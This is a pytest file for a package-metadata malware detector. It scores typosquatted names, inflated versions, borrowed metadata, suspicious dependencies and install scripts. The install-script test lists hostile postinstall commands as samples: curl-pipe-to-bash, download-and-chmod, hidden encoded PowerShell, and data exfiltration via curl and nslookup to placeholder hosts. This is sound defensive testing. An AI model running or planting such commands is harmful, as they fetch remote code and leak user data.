"""How sure metadata detectors are, and of what."""

from typing import Any

import pytest
from metadata_builders import package, surest

from watchhouse.evidence.facts.package import Dependency, Link
from watchhouse.evidence.metadata import (
    absurd_version,
    author_mail,
    borrowed_author,
    borrowed_name,
    borrowed_repository,
    borrowed_summary,
    direct_url_dependency,
    dropped_executable,
    empty_package,
    lifecycle_script,
    link_spam,
    lookalike_dependency,
    name_lookalike,
    random_name,
)
from watchhouse.model.evidence import Confidence, Moment
from watchhouse.model.identity import Ecosystem

HIGH, MEDIUM, LOW = Confidence.HIGH, Confidence.MEDIUM, Confidence.LOW
PROGRAM = b"\x7fELF inert"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("reqeusts", HIGH),
        ("re-quests", HIGH),
        ("numpy-dev", MEDIUM),
        ("fasttext-new", LOW),
        ("geopi", MEDIUM),
        ("taktokapi", LOW),
        ("ansi-styles", MEDIUM),
        ("requests", None),
        ("", None),
    ],
)
def test_a_better_known_target_and_a_smaller_edit_make_a_name_surer(
    name: str, expected: Confidence | None
) -> None:
    """Confidence follows the kind of edit and the target's place."""
    assert surest(name_lookalike.DETECTOR, package(name)) is expected


def test_a_resemblance_names_its_target_and_edit() -> None:
    """What is resembled, and how, can be read by a machine."""
    (seen,) = name_lookalike.examine(package("reqeusts"))
    assert dict(seen.attributes) == {"target": "requests", "edit": "swapped letters", "rank": "6"}


def test_the_published_name_counts_before_the_inner_one() -> None:
    """A look-alike that calls itself by the real name inside is judged by its published name."""
    facts = package("requests", published_as="reqeusts")
    assert surest(name_lookalike.DETECTOR, facts) is HIGH
    assert surest(borrowed_name.DETECTOR, facts) is HIGH


@pytest.mark.parametrize(
    ("version", "expected"),
    [
        ("99.0.0", HIGH),
        ("9999.9.9", HIGH),
        ("100.100.100", HIGH),
        ("88.88", HIGH),
        ("1!999.0", HIGH),
        ("v99.1", HIGH),
        ("1337.0.3", MEDIUM),
        ("31337", MEDIUM),
        ("3000.0.0", MEDIUM),
        ("610.0.0", LOW),
        ("2026.11.22", None),
        ("2000.0.1", None),
        ("2026.2026", None),
        ("20261122.1", None),
        ("19.9", None),
        ("0.99.99", None),
        ("156.0.8078.47", None),
        ("120", None),
        ("one", None),
        ("", None),
    ],
)
def test_only_versions_made_to_win_are_absurd(version: str, expected: Confidence | None) -> None:
    """Nines and repeated numbers are sure; dates and other programs' numbers are none."""
    assert surest(absurd_version.DETECTOR, package(version=version)) is expected


def test_an_internal_name_makes_a_high_version_surer() -> None:
    """A word that was not meant for the public raises a weak version by one step, not a sure one."""
    assert surest(absurd_version.DETECTOR, package("garden-internal", "610.0.0")) is MEDIUM
    assert surest(absurd_version.DETECTOR, package("garden-internal", "99.0.0")) is HIGH


@pytest.mark.parametrize(
    ("name", "url", "expected"),
    [
        ("requuests", "https://github.com/psf/requests", HIGH),
        ("garden-book", "https://github.com/pyserial/pyserial", MEDIUM),
        ("garden-book", "https://github.com/somebody/requests", LOW),
        ("requests-garden", "https://github.com/psf/requests", None),
        ("psf-garden", "https://github.com/psf/requests", None),
        ("requests", "https://github.com/psf/requests", None),
        ("garden-book", "https://garden.example/pyserial/pyserial", None),
        ("garden-book", "https://github.com/sponsors/requests", None),
    ],
)
def test_a_borrowed_repository_is_surest_under_a_mistyped_name(
    name: str, url: str, expected: Confidence | None
) -> None:
    """The real project's repository under its mistyped name is no fork; a plug-in's may be named."""
    assert surest(borrowed_repository.DETECTOR, package(name, urls=(("Home", url),))) is expected


@pytest.mark.parametrize(
    ("name", "expected"), [("tzdatta", HIGH), ("garden-book", LOW), ("tzdata-garden", None), ("tzdata", None)]
)
def test_a_borrowed_author_is_surest_under_a_mistyped_name(name: str, expected: Confidence | None) -> None:
    """The same people publish other projects too; of what they are imitated in, they are not the authors."""
    facts = package(name, authors=("Python Software Foundation",))
    assert surest(borrowed_author.DETECTOR, facts) is expected


@pytest.mark.parametrize(
    ("name", "expected"), [("flaskk", HIGH), ("garden-book", MEDIUM), ("flask-garden", LOW), ("flask", None)]
)
def test_a_borrowed_summary_is_surest_under_a_mistyped_name(name: str, expected: Confidence | None) -> None:
    """A fork says what it was forked from; a stranger has no reason to."""
    facts = package(name, summary="A simple framework for building complex web applications.")
    assert surest(borrowed_summary.DETECTOR, facts) is expected


@pytest.mark.parametrize(
    ("outside", "version", "expected"),
    [
        ("orchard", "1.2.0", HIGH),
        ("garden-book", "1.2", MEDIUM),
        ("garden-book", "1.2.0", None),
        ("Garden_Book", "1.2.0", None),
        ("", "", None),
    ],
)
def test_inside_and_outside_agree_or_not(outside: str, version: str, expected: Confidence | None) -> None:
    """Another name is sure; another version less so; another spelling is nothing."""
    facts = package("garden-book", "1.2.0", published_as=outside, published_version=version)
    assert surest(borrowed_name.DETECTOR, facts) is expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://192.0.2.7/a.zip", HIGH),
        ("https://transfer.sh.example/a.zip", HIGH),
        ("http://files.garden.example/a.zip", HIGH),
        ("https://files.garden.example/a.zip", MEDIUM),
        ("git+https://github.com/ann/soil", LOW),
        ("ann/soil#main", LOW),
        ("git@github.com:ann/soil.git", LOW),
        ("file:../soil", LOW),
        ("", None),
    ],
)
def test_where_a_direct_dependency_points_decides(url: str, expected: Confidence | None) -> None:
    """A bare address, a drop for files or an open way is sure; a forge or a path is ordinary among friends."""
    facts = package(
        dependencies=(Dependency(name="soil", specifier="", url=url),),
        members={"garden.py": b"for bed in range(3):\n    pass\n"},
    )
    assert surest(direct_url_dependency.DETECTOR, facts) is expected


def test_a_hollow_package_makes_its_direct_dependency_surer() -> None:
    """A package that only fetches another from a forge is one step more suspect."""
    dependency = Dependency(name="soil", specifier="", url="git+https://github.com/ann/soil")
    assert surest(direct_url_dependency.DETECTOR, package(dependencies=(dependency,))) is MEDIUM


@pytest.mark.parametrize(
    ("dependency", "expected"),
    [("reqeusts", MEDIUM), ("numpy-dev", None), ("requests", None), ("taktokapi", None)],
)
def test_only_sure_look_alikes_are_told_among_dependencies(
    dependency: str, expected: Confidence | None
) -> None:
    """A dependency is told where it is a household name mistyped."""
    facts = package(dependencies=(Dependency(name=dependency, specifier=""),))
    assert surest(lookalike_dependency.DETECTOR, facts) is expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -s https://garden.example/x | bash", HIGH),
        ("wget http://192.0.2.7/x -O x && chmod +x x", HIGH),
        ("powershell -w hidden -enc AAAA", HIGH),
        ("curl -d $(whoami) https://garden.example", HIGH),
        ("nslookup $USER.garden.example", HIGH),
        ("python3 -c 'print(1)'", HIGH),
        ("node -e '1'", HIGH),
        ("ping garden.example", MEDIUM),
        ("node ./install.js", LOW),
        ("./run", LOW),
        ("garden --setup", LOW),
        ("node-gyp rebuild", None),
        ("prebuild-install || node-gyp rebuild", None),
        ("echo thanks", None),
    ],
)
def test_what_an_install_command_does_decides(command: str, expected: Confidence | None) -> None:
    """Downloads, inline code and sending are sure; a build of native code is nothing."""
    facts = package(ecosystem=Ecosystem.NPM, scripts=(("postinstall", command),))
    assert surest(lifecycle_script.DETECTOR, facts) is expected


def test_an_install_command_runs_at_installation() -> None:
    """The sighting says when the command runs; scripts for developers are not told."""
    scripts = (("test", "curl -s x.example | sh"), ("preinstall", "node -e '1'"))
    (seen,) = lifecycle_script.examine(package(ecosystem=Ecosystem.NPM, scripts=scripts))
    assert (seen.moment, dict(seen.attributes)) == (Moment.INSTALL, {"script": "preinstall"})


def test_an_entry_point_of_that_name_is_no_install_command() -> None:
    """A Python package's command called `install` runs when somebody calls it."""
    assert surest(lifecycle_script.DETECTOR, package(scripts=(("install", "node -e '1'"),))) is None


@pytest.mark.parametrize(
    ("metadata", "kind"),
    [
        ({"emails": ("k@mailinator.com",)}, "disposable"),
        ({"emails": ("k@x.yopmail.com.example",)}, "disposable"),
        ({"emails": ("you@example.com",)}, "placeholder"),
        ({"emails": ("test@test.com",)}, "placeholder"),
        ({"emails": ("a b@garden.example",)}, "malformed"),
        ({"emails": ("ann@garden..example",)}, "malformed"),
        ({"emails": ("xqzkvjwpqfhdt@gmail.com",)}, "drawn"),
        ({"authors": ("Your  Name",)}, "placeholder name"),
    ],
)
def test_an_unreachable_author_is_told_by_kind(metadata: dict[str, Any], kind: str) -> None:
    """Each way of not being reachable has its word."""
    assert [dict(seen.attributes)["kind"] for seen in author_mail.examine(package(**metadata))] == [kind]


@pytest.mark.parametrize(
    "address",
    ["ann@garden.example", "xqzkvjwpqfhdt@garden.example", "j.smith@test.com", "ann.gardener87@gmail.com"],
)
def test_an_ordinary_address_is_nothing(address: str) -> None:
    """Letters at random say nothing under a domain of one's own; a person may work at test.com."""
    assert surest(author_mail.DETECTOR, package(emails=(address,))) is None


@pytest.mark.parametrize(
    ("path", "file", "expected"),
    [
        ("garden/tool.exe", "garden-1.tar.gz", MEDIUM),
        ("garden/tool", "garden-1-py3-none-any.whl", MEDIUM),
        ("garden-1.data/scripts/tool", "garden-1-py3-none-manylinux_2_17_x86_64.whl", LOW),
        ("tests/data/tool.bin", "garden-1.tar.gz", LOW),
        ("garden/logo.png", "garden-1.tar.gz", HIGH),
        ("garden/_speed.so", "garden-1.tar.gz", None),
        ("garden/libsoil.so.3", "garden-1.tar.gz", None),
        ("pip/_vendor/distlib/t64.exe", "garden-1.tar.gz", None),
        ("garden/t64.exe", "garden-1.tar.gz", MEDIUM),
    ],
)
def test_where_a_program_lies_decides(path: str, file: str, expected: Confidence | None) -> None:
    """A program is ordinary in a platform's wheel, odd in a pure package, hidden under another file type."""
    assert surest(dropped_executable.DETECTOR, package(file=file, members={path: PROGRAM})) is expected


def test_bytes_that_only_begin_like_a_program_are_none() -> None:
    """`MZ` alone is two letters; the header it points to must be there."""
    members = {"garden/notes.txt": b"MZ is how some programs begin" + b" " * 80}
    assert surest(dropped_executable.DETECTOR, package(members=members)) is None


@pytest.mark.parametrize(
    ("members", "content"),
    [
        ({}, "nothing"),
        ({"garden.py": b"import os\nVERSION = '1'\nprint('hello')\n"}, "nothing"),
        ({"garden.py": b"PATTERN = '\\d'  # a warning to the parser\n"}, "nothing"),
        ({"setup.py": b"from setuptools import setup\nsetup(name='x')\n"}, "nothing"),
        ({"setup.py": b"import os\nos.getcwd()\nfrom setuptools import setup\nsetup()\n"}, "installer"),
        ({"setup.py": b"from setuptools import setup\nsetup(cmdclass={})\n"}, "installer"),
    ],
)
def test_an_empty_package_is_told_with_what_is_left(members: dict[str, bytes], content: str) -> None:
    """Stubs are nothing; an installer that acts is told apart."""
    (seen,) = empty_package.examine(package(members=members))
    assert dict(seen.attributes) == {"content": content}


@pytest.mark.parametrize(
    "members",
    [
        {"garden.py": b"def grow(beds):\n    return sorted(beds)\n"},
        {"garden.py": b"this does not parse ("},
        {"garden.py": b"x = " + b"(" * 2_000},
        {"garden.py": b"x = 1\n" * 2_000},
        {"garden.py": b"", "plants.csv": b"x" * 5_000},
        {"index.js": b"module.exports = 1;" * 20},
    ],
)
def test_a_package_that_holds_something_is_not_empty(members: dict[str, bytes]) -> None:
    """Code that calls, code that cannot be read, long code, data and JavaScript are something."""
    assert surest(empty_package.DETECTOR, package(members=members)) is None


def test_dependencies_make_an_empty_package_ordinary() -> None:
    """A package that only pulls in others is common."""
    facts = package(dependencies=(Dependency(name="rich", specifier=""),))
    assert surest(empty_package.DETECTOR, facts) is LOW


def test_an_advertisement_is_sure_only_without_code() -> None:
    """The same words over a package with code are less sure; few words with code are nothing."""
    text = "Free robux generator 2026 no survey. Claim yours, click here."
    link = (Link(url="https://bit.ly.example/x?ref=1", label="here"),)
    code = {"garden.py": b"def grow(beds):\n    return sorted(beds)\n"}
    assert surest(link_spam.DETECTOR, package(description=text, links=link)) is HIGH
    assert surest(link_spam.DETECTOR, package(description=text, links=link, members=code)) is MEDIUM
    assert (
        surest(link_spam.DETECTOR, package(description="Buys gift cards.", links=link, members=code)) is None
    )
    assert surest(link_spam.DETECTOR, package(description="Click here for the manual.", links=link)) is None


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("xqzkvjwpqfhd", HIGH),
        ("b3e9f02c7d41", HIGH),
        ("xqzkv", None),
        ("garden-book", None),
        ("requests", None),
    ],
)
def test_a_name_drawn_at_random_is_told_from_words(name: str, expected: Confidence | None) -> None:
    """Letters without sense are sure, words and short acronyms are nothing."""
    assert surest(random_name.DETECTOR, package(name)) is expected
